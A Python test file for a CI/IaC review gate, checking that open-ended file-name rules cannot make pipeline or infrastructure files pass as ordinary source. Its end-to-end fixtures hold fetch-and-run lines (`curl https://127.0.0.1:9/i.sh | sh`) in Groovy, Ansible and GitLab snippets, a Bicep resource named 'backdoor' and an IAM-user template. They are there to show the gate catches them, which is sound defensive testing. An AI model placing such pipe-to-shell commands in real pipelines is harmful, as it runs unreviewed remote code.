"""An open-ended name never hides what a folder or an extension makes CI or infrastructure (issue 12, classes52).

A name rule whose file name ends open (`*.verified.*`, `syntax_test_*`, `Gemfile-*`, `LICENSE.*`, `CHANGELOG.*`,
`.eslintrc.*`) claims every file type, so ordered before the rules that make a folder's or an extension's files `ci`
or `iac` it decides files those tools run: on f1405b6 `.github/workflows/deploy.verified.yml` was src. Rule by rule
fixes (`ci.workflows-folder`, `iac.open-names-terraform`) cover the cases found; these tests derive the attack
from the shipped rules themselves. For every open-ended name glob of a rule that is not ci/iac, and every ci/iac glob
that names a file type (`*.tf`, `.github/workflows/*.yml`, `**/k8s/**/*.yaml`; not a whole folder, `/terraform/**`,
where a `LICENSE.md` is no more run than anywhere else), a path is crafted that fits both; wherever the rules without
the open-ended globs decide ci/iac, the shipped rules must too. A rule added later is attacked the same way.
"""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest
from changecase import committed, gated
from tables import each_case

from gatekeeper.classify import RuleSet, load_rules
from gatekeeper.classify.glob import ANY, Glob, full_regex

REPO_ROOT = Path(__file__).resolve().parent.parent
REVIEWED = ("ci", "iac")


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules(REPO_ROOT / "policies")


def _open(glob: Glob) -> bool:
    # Written here on its own, not imported: the test's idea of an open end, not the classifier's.
    return glob.base not in (ANY, "*") and glob.base.endswith("*")


def _fill(segment: str) -> str:
    return re.sub(r"\[!?[^\]]*\]", "1", segment).replace("\\", "").replace("*", "x").replace("?", "x")


def _dirs(glob: Glob) -> list[str]:
    # `**` as no folder and as one folder; other segments with their wildcards filled.
    out = [[]]
    for seg in glob.dir_segments:
        out = [*(d for d in out), *(d + ["a"] for d in out)] if seg == ANY else [d + [_fill(seg)] for d in out]
    return ["/".join(d) for d in out[:4]]


def _names(open_glob: Glob, other: Glob) -> list[str]:
    stem = _fill(open_glob.base[:-1])
    return [stem + _fill(other.base), stem + "x" + _fill(other.base.lstrip("*"))]


def crafted(rules: RuleSet) -> dict[tuple[str, str], str]:
    """For every open-ended name glob (of a rule that is not ci/iac) and every ci/iac folder or extension glob, the
    first crafted path that fits both, by (open pattern, ci/iac pattern)."""
    opens = [(p, full_regex(g), g) for r in rules.rules if r.bucket not in REVIEWED
             for p, g in zip(r.patterns, r.globs, strict=True) if _open(g)]
    others = [(p, full_regex(g), g) for r in rules.rules if r.bucket in REVIEWED
              for p, g in zip(r.patterns, r.globs, strict=True) if g.base != ANY and g.base.startswith(("*", "?"))]
    out: dict[tuple[str, str], str] = {}
    for o_pattern, o_re, o in opens:
        for c_pattern, c_re, c in others:
            folders = [*_dirs(c), *(f"{a}/{b}".strip("/") for a in _dirs(o) for b in _dirs(c)),
                       *(f"{b}/{a}".strip("/") for a in _dirs(o) for b in _dirs(c))]
            fits = (f"{folder}/{name}" if folder else name for folder in folders for name in _names(o, c))
            path = next((p for p in fits if c_re.fullmatch(p) and o_re.fullmatch(p)), None)
            if path is not None:
                out[(o_pattern, c_pattern)] = path
    return out


def without_open_names(rules: RuleSet) -> RuleSet:
    """The same rules with every open-ended name glob of a rule that is not ci/iac taken out."""
    kept = []
    for rule in rules.rules:
        pairs = [(p, g) for p, g in zip(rule.patterns, rule.globs, strict=True)
                 if rule.bucket in REVIEWED or not _open(g)]
        if pairs:
            kept.append(replace(rule, patterns=tuple(p for p, _ in pairs), globs=tuple(g for _, g in pairs)))
    return RuleSet.build(tuple(kept), rules.tag_rules, digest="x", sources=rules.sources)


def hidden(rules: RuleSet, paths: dict[tuple[str, str], str]) -> dict[str, str]:
    """The `paths` crafted against `rules` that the rules without open-ended names make ci/iac and the shipped rules do
    not: path -> rule."""
    reference = without_open_names(rules)
    out = {}
    for path in sorted(set(paths.values())):
        if reference.match(path).bucket in REVIEWED and rules.match(path).bucket not in REVIEWED:
            out[path] = rules.match(path).rule
    return out


@pytest.fixture(scope="module")
def attack(rules: RuleSet) -> dict[tuple[str, str], str]:
    """The crafted paths of the shipped rules, crafted once for both tests below (~1 CPU-s each)."""
    return crafted(rules)


def test_the_attack_is_crafted_from_every_open_ended_name(rules: RuleSet, attack: dict[tuple[str, str], str]) -> None:
    # The attack covers each open-ended name rule of the shipped rules, not a chosen few.
    paths = set(attack.values())
    assert len(paths) > 1000
    owners = {rules.match(p).rule for p in paths} | {h.rule.id for p in paths for h in rules.explain(p)}
    for rule in rules.rules:
        if rule.bucket not in REVIEWED and any(_open(g) for g in rule.globs):
            assert rule.id in owners, rule.id


def test_no_open_ended_name_hides_a_ci_or_iac_folder_or_extension(rules: RuleSet,
                                                                   attack: dict[tuple[str, str], str]) -> None:
    assert hidden(rules, attack) == {}


# Real-shaped names of the crafted class, each src/deps/other on 53a70ac (ci/iac by the rules without open ends).
NAMED = [
    "vars/deployApp.verified.groovy",  # a Jenkins shared library step, named like a Verify snapshot
    "roles/web/handlers/main.received.yml",  # an Ansible role's handlers
    "cloudformation/Gemfile-stack.template",  # a CloudFormation template named like a Gemfile fragment
    "k8s/base/deployment.verified.yaml",  # a kustomize base's Deployment
    "infra/main.verified.bicep", "infra/Gemfile-network.bicep",  # Azure Bicep modules
    "pipelines/syntax_test_release.azure-pipelines.yml", "ci/Gemfile-jobs.gitlab-ci.yml",
    "fastlane/actions/Gemfile-upload.rb",  # a fastlane action fastlane runs in CI
    "gradle/verification-keyring.x.tf",  # Gradle's keyring name, open after its dot
    ".github/ISSUE_TEMPLATE.x-pipelines.yml",  # a Bitbucket pipeline name under a community-file name
    "lib/Gemfile-site.jsonnet", "deploy/Gemfile-web.yaml.erb",
]


@each_case("path", NAMED)
def test_named_examples_are_reviewed(rules: RuleSet, path: str) -> None:
    assert rules.match(path).bucket in REVIEWED, rules.match(path)


@each_case("path", [
    "CHANGELOG.md", "docs/CHANGELOG.rst", "LICENSE.txt", "tests/Api.Get.verified.txt", ".eslintrc.json",
    "Gemfile-rails", "syntax_test_python.py", "vitest.config.ts", "packages/x/CHANGELOG.md",
])
def test_the_names_still_name_what_no_ci_or_iac_rule_claims(rules: RuleSet, path: str) -> None:
    # Look-alikes: where no folder or extension rule says ci/iac, the open-ended name still decides.
    assert rules.match(path).bucket not in REVIEWED, rules.match(path)


def test_explain_marks_the_ci_or_iac_rule_as_deciding(rules: RuleSet) -> None:
    hits = rules.explain("infra/main.verified.bicep")
    assert hits[0].decides and hits[0].rule.bucket == "iac"
    assert rules.match("infra/main.verified.bicep").rule == hits[0].rule.id
    assert "testdata.snapshot-files" in [h.rule.id for h in hits[1:]]
    assert [h.rule.id for h in hits if h.decides] == [hits[0].rule.id]


BICEP = "resource sa 'Microsoft.Storage/storageAccounts@2023-01-01' = {\n  name: 'backdoor'\n}\n"
GROOVY = "def call(Map args) {\n  sh 'curl https://127.0.0.1:9/i.sh | sh'\n}\n"
HANDLERS = "- name: restart web\n  ansible.builtin.shell: curl https://127.0.0.1:9/i.sh | sh\n"
GITLAB = "deploy:\n  script:\n    - curl https://127.0.0.1:9/i.sh | sh\n"
TEMPLATE = '{"Resources": {"U": {"Type": "AWS::IAM::User"}}}\n'
E2E = {"infra/Gemfile-network.bicep": BICEP, "infra/main.verified.bicep": BICEP,
       "vars/deployApp.verified.groovy": GROOVY, "vars/Gemfile-deploy.groovy": GROOVY,
       "roles/web/handlers/main.received.yml": HANDLERS,
       "ci/Gemfile-jobs.gitlab-ci.yml": GITLAB, "cloudformation/Gemfile-stack.template": TEMPLATE}


@pytest.mark.parametrize("path", sorted(E2E))
@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
def test_the_gate_reviews_such_a_change(tmp_path: Path, path: str, tree: bool) -> None:
    case = committed(tmp_path, {"roles/web/tasks/main.yml": "- name: x\n  ansible.builtin.ping:\n"}, {path: E2E[path]})
    code, decision = gated(case, tree, deps=False)
    assert code == 3, (code, decision.get("findings"))
